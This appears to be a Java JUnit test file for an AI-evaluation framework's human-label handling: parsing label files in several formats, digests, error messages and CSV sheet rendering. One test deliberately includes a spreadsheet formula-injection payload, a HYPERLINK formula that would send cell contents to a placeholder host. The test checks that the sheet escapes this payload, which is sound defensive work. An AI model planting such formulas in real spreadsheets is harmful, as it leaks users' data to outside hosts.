package dev.agentarena.junit.engine.labels;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.agentarena.junit.engine.config.ConfigurationException;
import dev.agentarena.junit.engine.datasets.DatasetFiles;

/** Labels files in every dataset format, the sheet read back, and errors at file and line. */
class LabelFileTest {

    private static final String DIGEST = OutputDigest.of("Paris");

    @TempDir
    Path directory;

    private List<HumanLabel> read(String name, String text, String defaultEval) throws IOException {
        Files.writeString(directory.resolve(name), text);
        return LabelFile.read(DatasetFiles.locate(name, null, directory), defaultEval);
    }

    @Test
    void theSameLabelsReadFromEveryFormat() throws IOException {
        List<List<HumanLabel>> formats = List.of(
                read("labels.csv", "eval,case,model,output_digest,human_verdict,human_score,human_note\n"
                        + "qa,france,sim_small," + DIGEST + ",pass,0.9,right\n"
                        + "qa,spain,sim_small,,,,\n", null),
                read("labels.jsonl", "{\"eval\": \"qa\", \"case\": \"france\", \"model\": \"sim_small\", "
                        + "\"output_digest\": \"" + DIGEST + "\", \"human_verdict\": true, \"human_score\": 0.9, "
                        + "\"human_note\": \"right\"}\n"
                        + "{\"eval\": \"qa\", \"case\": \"spain\", \"model\": \"sim_small\", \"human_verdict\": null}\n",
                        null),
                read("labels.json", "[{\"case\": \"france\", \"model\": \"sim_small\", \"output\": \"Paris\", "
                        + "\"human_verdict\": \"PASS\", \"human_score\": 0.9, \"human_note\": \"right\"}]", "qa"),
                read("labels.yaml", "- eval: qa\n  case: france\n  model: sim_small\n  output_digest: " + DIGEST
                        + "\n  human_verdict: pass\n  human_score: 0.9\n  human_note: right\n", null));
        for (List<HumanLabel> labels : formats) {
            assertThat(labels).as("an unlabelled row is skipped").hasSize(1);
            HumanLabel label = labels.get(0);
            assertThat(label.eval()).isEqualTo("qa");
            assertThat(label.caseId()).isEqualTo("france");
            assertThat(label.model()).isEqualTo("sim_small");
            assertThat(label.outputDigest()).as("given, or the digest of the output").isEqualTo(DIGEST);
            assertThat(label.passed()).isTrue();
            assertThat(label.score()).isEqualTo(0.9);
            assertThat(label.note()).isEqualTo("right");
        }
    }

    @Test
    void aScoreAloneGivesTheVerdictAndAVerdictAloneTheScore() throws IOException {
        List<HumanLabel> labels = read("labels.csv", "eval,case,model,human_verdict,human_score\n"
                + "qa,a,m,,0.4\nqa,b,m,fail,\n", null);

        assertThat(labels.get(0).passed()).isFalse();
        assertThat(labels.get(1).scoreOrVerdict()).isEqualTo(0.0);
        assertThat(labels.get(1).judged(DIGEST)).as("no digest: any output").isTrue();
    }

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaIsQuotedInTheSheetAndReadBackAsItWas() throws IOException {
        // a model's output a labeller's spreadsheet would run; a case id that starts like a formula
        String output = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"click\")";
        LabelSheet sheet = new LabelSheet();
        sheet.add(new LabelSheet.Result("qa", "questions", "-1", "sim_small", 0, "llm_judge", 1.0, true, "@once",
                output, "+input", "Paris"));
        String csv = sheet.render(LabelSheet.Format.CSV);
        assertThat(csv).contains(",'-1,", "\"'=HYPERLINK(", ",'+input,", ",'@once,").doesNotContain(",=", ",\"=");

        List<HumanLabel> labels = read("filled.csv", csv.replace(",,,\r\n", ",pass,,\r\n"), null);

        assertThat(labels).hasSize(1);
        assertThat(labels.get(0).caseId()).isEqualTo("-1");
        assertThat(labels.get(0).outputDigest()).isEqualTo(OutputDigest.of(output));
        assertThat(read("no-digest.csv", "eval,case,model,output,human_verdict\nqa,'-1,sim_small,\"'=1+1\",pass\n",
                null).get(0).outputDigest()).as("the digest of the output as the model wrote it")
                .isEqualTo(OutputDigest.of("=1+1"));
    }

    @Test
    void badRowsAreNamedByFileAndLine() throws IOException {
        assertThatThrownBy(() -> read("labels.jsonl", String.join("\n",
                "{\"eval\": \"qa\", \"case\": \"a\", \"model\": \"m\", \"human_verdict\": \"yes\"}",
                "{\"eval\": \"qa\", \"case\": \"b\", \"model\": \"m\", \"human_score\": -1}",
                "{\"eval\": \"qa\", \"model\": \"m\", \"human_verdict\": \"pass\"}",
                "{\"eval\": \"qa\", \"case\": \"d\", \"model\": \"m\", \"human_verdict\": \"pass\", \"mood\": 1}",
                "{not json"), null))
                .isInstanceOf(ConfigurationException.class)
                .hasMessageContaining("has 5 bad rows")
                .hasMessageContaining("labels.jsonl:1: bad human_verdict 'yes': expected pass or fail")
                .hasMessageContaining("labels.jsonl:2: human_score -1 is out of range")
                .hasMessageContaining("labels.jsonl:3: a label needs its case")
                .hasMessageContaining("labels.jsonl:4: unknown column 'mood'")
                .hasMessageContaining("labels.jsonl:5: malformed JSON");
    }

    @Test
    void aLabelKnowsWhetherItJudgedTheOutputOrAnotherOne() {
        EvalLabels labels = new EvalLabels("qa", List.of(
                new HumanLabel("qa", "france", "m", DIGEST, true, null, "", "labels.csv:2")));

        assertThat(labels.find("france", "m", DIGEST)).hasValueSatisfying(match -> assertThat(match.stale()).isFalse());
        assertThat(labels.find("france", "m", OutputDigest.of("Lyon")))
                .hasValueSatisfying(match -> assertThat(match.stale()).isTrue());
        assertThat(labels.find("france", "other", DIGEST)).isEmpty();
    }

    @Test
    void theDigestIsTheSha256OfTheOutputInUtf8() {
        assertThat(OutputDigest.of("abc"))
                .isEqualTo("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
        assertThat(OutputDigest.of(null)).isNull();
    }

    @Test
    void theSheetQuotesCsvCellsAndReadsBackAsLabelsOnceFilled() throws IOException {
        LabelSheet sheet = new LabelSheet();
        sheet.add(new LabelSheet.Result("qa", "d", "france", "m", 0, "llm_judge", 1.0, true, "judge: pass, \"ok\"",
                "Paris,\nFrance", "Capital?", "Paris"));
        sheet.add(new LabelSheet.Result("qa", "d", "france", "m", 0, "exact_match", 0.0, false, "differs",
                "Paris,\nFrance", "Capital?", "Paris"));
        String csv = sheet.render(LabelSheet.Format.CSV);

        assertThat(csv).startsWith("eval,dataset,case,model,repeat,input,output,reference,output_digest,"
                + "llm_judge.score,llm_judge.verdict,llm_judge.reason,exact_match.score,exact_match.verdict,"
                + "exact_match.reason,human_verdict,human_score,human_note\r\n");
        assertThat(csv).contains("\"Paris,\nFrance\"").contains("\"judge: pass, \"\"ok\"\"\"");
        String filled = csv.replaceFirst(",,,\r\n$", ",fail,0.2,\"too long, wrong\"\r\n");
        List<HumanLabel> labels = read("filled.csv", filled, null);
        assertThat(labels).hasSize(1);
        assertThat(labels.get(0).outputDigest()).isEqualTo(OutputDigest.of("Paris,\nFrance"));
        assertThat(labels.get(0).note()).isEqualTo("too long, wrong");
    }
}
